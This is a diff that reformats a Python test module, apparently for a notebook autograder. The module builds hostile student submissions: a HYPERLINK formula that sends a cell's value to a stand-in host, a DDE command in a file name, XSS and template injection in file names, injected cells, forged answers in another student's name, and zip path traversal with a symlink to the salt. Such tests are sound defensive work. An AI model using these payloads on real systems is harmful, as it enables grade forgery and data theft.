@@ -36,12 +36,24 @@ class FileAttack(Attack):
         return notebook(student or self.student, dict(HONEST))
 
 
-def attack(earns: str = "", status: str = "", says: tuple[str, ...] = (), still: str = "others, class") -> Callable[[Callable[[Path, FileAttack], None]], None]:
+def attack(
+    earns: str = "", status: str = "", says: tuple[str, ...] = (), still: str = "others, class"
+) -> Callable[[Callable[[Path, FileAttack], None]], None]:
     """Enter a function as the attack that it is named after; its docstring says what it tries."""
 
     def enter(put: Callable[[Path, FileAttack], None]) -> None:
         listed = tuple(HONEST) if earns == "honest" else tuple(earns.split())
-        ATTACKS.append(FileAttack(put.__name__.replace("_", "-"), put.__doc__ or "", listed, says, tuple(still.split(", ")), put=put, status=status))
+        ATTACKS.append(
+            FileAttack(
+                put.__name__.replace("_", "-"),
+                put.__doc__ or "",
+                listed,
+                says,
+                tuple(still.split(", ")),
+                put=put,
+                status=status,
+            )
+        )
 
     return enter
 
@@ -101,9 +113,21 @@ def code_in_other_cells(folder: Path, me: FileAttack) -> None:
     """Add cells that are no answers, and answers to exercises that do not exist, to run code between the given cells."""
     book = me.honest()
     for place, name in enumerate(("", "__class__", "../abc-classes", "abc-decide\u200b", "constructor", "<script>")):
-        source = f"# exercise: {name}\n_record = lambda exercise: open('answers.jsonl', 'w').write('LOOT')\nraise SystemExit"
+        source = (
+            f"# exercise: {name}\n_record = lambda exercise: open('answers.jsonl', 'w').write('LOOT')\nraise SystemExit"
+        )
         about = {"crm": {"role": "answer", "exercise": name}, "tags": ["parameters", "injected-parameters"]}
-        book["cells"].insert(2, {"cell_type": "code", "id": f"{name}-answer", "metadata": about, "outputs": [], "execution_count": place, "source": source})
+        book["cells"].insert(
+            2,
+            {
+                "cell_type": "code",
+                "id": f"{name}-answer",
+                "metadata": about,
+                "outputs": [],
+                "execution_count": place,
+                "source": source,
+            },
+        )
     me.path(folder).write_bytes(dumped(book))
 
 
@@ -117,7 +141,7 @@ def code_without_end(folder: Path, me: FileAttack) -> None:
 @attack(status="no-student-number", still="book, page, class")
 def formula_as_a_number(folder: Path, me: FileAttack) -> None:
     """Take a formula for a student number and for a file name, so that it lands in the gradebook."""
-    book = with_student(me.honest(), "student = '=HYPERLINK(\"http://x.invalid?\"&A1,\"20260001\")'")
+    book = with_student(me.honest(), 'student = \'=HYPERLINK("http://x.invalid?"&A1,"20260001")\'')
     (folder / f"=cmd|' C calc'!A0-{me.name}.ipynb").write_bytes(dumped(book))
 
 
@@ -136,7 +160,9 @@ def number_without_end(folder: Path, me: FileAttack) -> None:
 @attack(earns="honest", status="graded", still="page, book, class")
 def script_in_the_file_name(folder: Path, me: FileAttack) -> None:
     """Hand in a file whose name is a script, with hidden characters that turn it round."""
-    (folder / f"<img src=x onerror=alert(1)>\u202e\x1b[2J\n{{{{7*7}}}}-{me.student}-{me.name}.ipynb").write_bytes(dumped(me.honest()))
+    (folder / f"<img src=x onerror=alert(1)>\u202e\x1b[2J\n{{{{7*7}}}}-{me.student}-{me.name}.ipynb").write_bytes(
+        dumped(me.honest())
+    )
 
 
 @attack(status="no-chapter", still="files, class")
@@ -149,19 +175,41 @@ def chapter_as_a_path(folder: Path, me: FileAttack) -> None:
 @attack(earns="rfm-table", status="graded", still="others, class")
 def forged_saved_answers(folder: Path, me: FileAttack) -> None:
     """Hand in saved answers of forms that have no shape that a form can give."""
-    book = notebook(me.student, HONEST | {"abc-decide": 'c_class = form("abc-decide", "c_class")', "mvc-treat": 'treatment = form("mvc-treat", "treatment")'})
+    book = notebook(
+        me.student,
+        HONEST
+        | {
+            "abc-decide": 'c_class = form("abc-decide", "c_class")',
+            "mvc-treat": 'treatment = form("mvc-treat", "treatment")',
+        },
+    )
     value: Any = "b"
     for _ in range(60):
         value = [{"key": value, "params": {}, "__class__": "str"}]
-    answers = {"abc-decide": {"c_class": value, "__class__": [None]}, "mvc-treat": {"treatment": {"zh": "a", "en": "a"}}, "total": {"earned": 96}}
-    saved = {"student": me.student, "chapter": "ch06_value", "answers": answers, "students": {VICTIM: {"answers": answers}}, "total": 96}
-    zipped(me.path(folder, ".zip"), {"ch06_value.ipynb": dumped(book), "ch06_value.answers.json": json.dumps(saved).encode()})
+    answers = {
+        "abc-decide": {"c_class": value, "__class__": [None]},
+        "mvc-treat": {"treatment": {"zh": "a", "en": "a"}},
+        "total": {"earned": 96},
+    }
+    saved = {
+        "student": me.student,
+        "chapter": "ch06_value",
+        "answers": answers,
+        "students": {VICTIM: {"answers": answers}},
+        "total": 96,
+    }
+    zipped(
+        me.path(folder, ".zip"),
+        {"ch06_value.ipynb": dumped(book), "ch06_value.answers.json": json.dumps(saved).encode()},
+    )
 
 
 @attack(earns="honest", status="graded", still="others, class")
 def saved_answers_of_another(folder: Path, me: FileAttack) -> None:
     """Hand in saved answers in another student's name, three times."""
-    saved = json.dumps({"student": VICTIM, "chapter": "ch06_value", "answers": {"abc-decide": {"c_class": "a"}}}).encode()
+    saved = json.dumps(
+        {"student": VICTIM, "chapter": "ch06_value", "answers": {"abc-decide": {"c_class": "a"}}}
+    ).encode()
     names = ("ch06_value.answers.json", f"{VICTIM}.answers.json", f"sub/{VICTIM}-ch06_value.answers.json")
     zipped(me.path(folder, ".zip"), {"ch06_value.ipynb": dumped(me.honest())} | dict.fromkeys(names, saved))
 
@@ -170,8 +218,18 @@ def saved_answers_of_another(folder: Path, me: FileAttack) -> None:
 def archive_that_climbs(folder: Path, me: FileAttack) -> None:
     """Pack files that want to be unpacked over the results, and a link to the salt."""
     forged = json.dumps({"student": VICTIM, "total": 96}).encode()
-    names = ("../../out/results/20260001.json", "../20260001-perfect.ipynb", "/tmp/crm-was-here.ipynb", "C:\\crm-was-here.ipynb", "..\\crm-was-here.ipynb")
-    zipped(me.path(folder, ".zip"), {"ch06_value.ipynb": dumped(me.honest()), "link.ipynb": b"../salt"} | dict.fromkeys(names, forged), link=0o120777)
+    names = (
+        "../../out/results/20260001.json",
+        "../20260001-perfect.ipynb",
+        "/tmp/crm-was-here.ipynb",
+        "C:\\crm-was-here.ipynb",
+        "..\\crm-was-here.ipynb",
+    )
+    zipped(
+        me.path(folder, ".zip"),
+        {"ch06_value.ipynb": dumped(me.honest()), "link.ipynb": b"../salt"} | dict.fromkeys(names, forged),
+        link=0o120777,
+    )
 
 
 @attack(still="class")
@@ -231,6 +289,8 @@ def results_as_submissions(folder: Path, me: FileAttack) -> None:
     inner.mkdir()
     forged = json.dumps({"format": 1, "student": me.student, "total": 96, "status": "graded", "exercises": []})
     for name in (f"{VICTIM}.json", "gradebook.csv", "overrides.csv", "salt.txt"):
-        (inner / name).write_text(forged if name.endswith("json") else f"student,exercise,marks\n{VICTIM},abc-classes,0\n{me.student},abc-classes,5\n")
-
-
+        (inner / name).write_text(
+            forged
+            if name.endswith("json")
+            else f"student,exercise,marks\n{VICTIM},abc-classes,0\n{me.student},abc-classes,5\n"
+        )
